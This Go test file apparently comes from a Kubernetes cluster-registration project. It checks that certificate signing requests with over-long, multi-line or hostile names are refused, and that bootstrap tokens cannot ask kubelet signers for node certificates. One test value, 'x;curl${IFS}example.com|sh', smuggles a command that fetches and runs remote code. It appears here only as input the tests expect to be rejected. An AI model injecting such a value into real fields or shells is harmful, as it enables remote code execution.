// Copyright The Capstan Authors.
// SPDX-License-Identifier: Apache-2.0

package registration_test

import (
	"crypto/x509/pkix"
	"strings"
	"testing"

	authorizationv1 "k8s.io/api/authorization/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	clusterv1 "github.com/capstan-io/capstan/apis/cluster/v1"
	"github.com/capstan-io/capstan/internal/testing/env"
	"github.com/capstan-io/capstan/internal/testing/hub"
)

// mayAskForCertificates returns a client with the rights of a bootstrap token, and a request that it may make.
func mayAskForCertificates(t *testing.T, h *hub.RegistrationHub, user string) (client.Client, certificatesv1.CertificateSigningRequestSpec) {
	t.Helper()
	asks := rbacv1.PolicyRule{APIGroups: []string{certificatesv1.GroupName}, Resources: []string{"certificatesigningrequests"}, Verbs: []string{"create"}}
	h.GrantUser(t, user, asks)
	env.WaitAllowed(t.Context(), t, h.AdminConfig, authorizationv1.SubjectAccessReviewSpec{User: user}, "", asks, true)
	as := h.ClientOf(t, user, clusterv1.GroupBootstrappers)
	return as, h.AskForCertificate(t, as, pkix.Name{CommonName: "anybody"}, "named", nil).Spec
}

// TestNobodyAsksToJoinByAStrangeName has a bootstrap token choose names of certificate requests,
// of which API servers take any text, and texts to generate names from, which they store whole and
// of any length.
func TestNobodyAsksToJoinByAStrangeName(t *testing.T) {
	h := guardedHubs.TakeFixture(t)
	as, request := mayAskForCertificates(t, h, "namer")
	long := strings.Repeat("x", 1_000_000)
	for what, named := range map[string]metav1.ObjectMeta{
		"a base of names of a megabyte":   {GenerateName: long},
		"a base of names beside its name": {Name: "named", GenerateName: long},
		"a name of 254 characters":        {Name: strings.Repeat("x", 254)},
		"a command for a name":            {Name: "x;curl${IFS}example.com|sh"},
		"an option for a name":            {Name: "--all"},
		"another line in its name":        {Name: "named\nnamed: agent one"},
		"another column in its name":      {Name: "named   agent"},
		"a base of names of two lines":    {GenerateName: "named\n"},
	} {
		for _, label := range []string{"", "named"} {
			csr := &certificatesv1.CertificateSigningRequest{ObjectMeta: *named.DeepCopy(), Spec: request}
			if label != "" {
				csr.Labels = map[string]string{clusterv1.LabelClusterName: label}
			}
			hub.RefusedWith(t, "a certificate request with "+what, as.Create(t.Context(), csr),
				"metadata.name and metadata.generateName of the certificate request of a cluster have at most 253 characters")
		}
	}
	for _, named := range []metav1.ObjectMeta{
		{Name: "named-0123abcd"},
		{Name: "1.named"},
		{GenerateName: "named-"},
		{GenerateName: "addon-named-example.com-"},
		{GenerateName: strings.Repeat("x", 253)},
		{Name: strings.Repeat("y", 253)},
	} {
		csr := &certificatesv1.CertificateSigningRequest{ObjectMeta: *named.DeepCopy(), Spec: request}
		if err := as.Create(t.Context(), csr, client.DryRunAll); err != nil {
			t.Errorf("a certificate request named like those of agents (%q, %q) is refused: %v", named.Name, named.GenerateName, err)
		}
	}
}

// TestABootstrapTokenDoesNotAskForANode has a bootstrap token of clusters, which API servers take
// for one of nodes, too, ask for what hubs may sign for nodes without an administrator.
func TestABootstrapTokenDoesNotAskForANode(t *testing.T) {
	h := guardedHubs.TakeFixture(t)
	as, request := mayAskForCertificates(t, h, "noder")
	for _, signer := range []string{
		certificatesv1.KubeAPIServerClientKubeletSignerName, certificatesv1.KubeletServingSignerName, "example.com/signer",
	} {
		csr := &certificatesv1.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{GenerateName: "named-"}, Spec: *request.DeepCopy()}
		csr.Spec.SignerName = signer
		hub.RefusedWith(t, "a certificate request of a bootstrap token for signer "+signer, as.Create(t.Context(), csr), "may be requested only")
	}
	// Agents ask for the certificates of their add-ons.
	csr := &certificatesv1.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{GenerateName: "addon-canary-"}, Spec: *request.DeepCopy()}
	csr.Spec.SignerName = "example.com/signer"
	if err := h.AgentClient(t, "canary").Create(t.Context(), csr, client.DryRunAll); err != nil {
		t.Errorf("an agent may not ask for a certificate of another signer: %v", err)
	}
}
